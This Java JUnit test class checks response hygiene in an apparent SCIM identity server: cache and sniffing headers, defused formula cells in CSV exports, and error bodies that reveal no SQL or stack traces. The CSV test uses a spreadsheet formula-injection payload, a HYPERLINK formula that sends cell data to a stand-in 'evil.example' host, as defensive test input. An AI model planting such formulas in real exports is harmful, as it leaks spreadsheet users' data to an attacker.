package dev.kiroscim.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.sql.Connection;
import java.sql.Statement;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Response hygiene, black box: {@code Cache-Control: no-store} and {@code X-Content-Type-Options: nosniff} on every
 * kind of answer (SCIM, admin, CSV, metrics, errors, health); CSV exports defuse cells a spreadsheet would run as
 * formulas; and a database failure (a table gone, on PostgreSQL) answers a SCIM error without SQL, table names or
 * a stack trace.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ResponseHygieneTest {

    private KiroServer server;

    @BeforeAll
    void start() {
        server = KiroServer.start(Backend.H2);
    }

    @AfterAll
    void stop() {
        if (server != null) {
            server.close();
        }
    }

    Stream<Arguments> everyKindOfAnswer() {
        String auth = "Bearer " + server.token();
        return Stream.of(
                Arguments.of("SCIM list", "/scim/v2/Users", auth, 200),
                Arguments.of("SCIM discovery", "/scim/v2/ServiceProviderConfig", auth, 200),
                Arguments.of("SCIM not found", "/scim/v2/Users/no-such-id", auth, 404),
                Arguments.of("no credentials", "/scim/v2/Users", null, 401),
                Arguments.of("unknown endpoint", "/nope", auth, 404),
                Arguments.of("admin JSON", "/admin/v1/tokens", auth, 200),
                Arguments.of("admin CSV", "/admin/v1/audit?format=csv", auth, 200),
                Arguments.of("metrics", "/metrics", auth, 200),
                Arguments.of("health", "/healthz", null, 200),
                Arguments.of("readiness", "/readyz", null, 200));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("everyKindOfAnswer")
    void everyAnswerForbidsCachingAndSniffing(String what, String path, String authorization, int status) {
        ScimResponse response = authorization == null
                ? RawHttp.to(server).send("GET", server.baseUri() + path, null)
                : RawHttp.to(server).send("GET", server.baseUri() + path, null, "Authorization", authorization);
        response.expectStatus(status);
        response.assertHeader("Cache-Control").isEqualTo("no-store");
        response.assertHeader("X-Content-Type-Options").isEqualTo("nosniff");
    }

    @Test
    void csvExportsDefuseFormulaCells() {
        ScimClient scim = ScimClient.bearer(server);
        String evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        scim.post("/Users", Bodies.user("@calc-" + System.nanoTime() + "@example.com"))
                .expectStatus(201);
        String groupId = scim.createGroup(evil);
        assertThat(groupId).isNotBlank();

        String csv = AdminApi.of(server)
                .get("/admin/v1/audit?format=csv&type=scim.")
                .expectStatus(200)
                .body();
        assertThat(csv).contains("'=HYPERLINK(").contains(",'@calc-");
        for (String line : csv.lines().toList()) {
            for (String cell : line.split(",", -1)) {
                String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertThat(unquoted)
                        .as("cell in: " + line)
                        .doesNotStartWith("=")
                        .doesNotStartWith("@")
                        .doesNotStartWith("+");
            }
        }
    }

    @Test
    void aDatabaseFailureLeaksNoSqlAndNoStackTrace() throws Exception {
        try (KiroServer postgres = KiroServer.start(Backend.POSTGRES)) {
            ScimClient scim = ScimClient.bearer(postgres);
            scim.createGroup("hygiene-" + System.nanoTime());
            try (Connection c = postgres.connectToDatabase();
                    Statement s = c.createStatement()) {
                s.execute("alter table scim_group rename to scim_group_away");
            }
            try {
                for (ScimResponse r : java.util.List.of(
                        scim.get("/Groups"), scim.post("/Groups", Bodies.group("hygiene-2-" + System.nanoTime())))) {
                    assertThat(r.status()).as(r.describe()).isGreaterThanOrEqualTo(500);
                    r.expectScimError(r.status(), null);
                    assertThat(r.body().toLowerCase())
                            .as(r.describe())
                            .doesNotContain("scim_group")
                            .doesNotContain("select")
                            .doesNotContain("insert")
                            .doesNotContain("sql")
                            .doesNotContain("exception")
                            .doesNotContain("hibernate")
                            .doesNotContain("\tat ")
                            .doesNotContain("org.")
                            .doesNotContain("dev.kiroscim");
                    r.assertHeader("Cache-Control").isEqualTo("no-store");
                }
            } finally {
                try (Connection c = postgres.connectToDatabase();
                        Statement s = c.createStatement()) {
                    s.execute("alter table scim_group_away rename to scim_group");
                }
            }
            scim.get("/Groups").expectStatus(200);
        }
    }
}
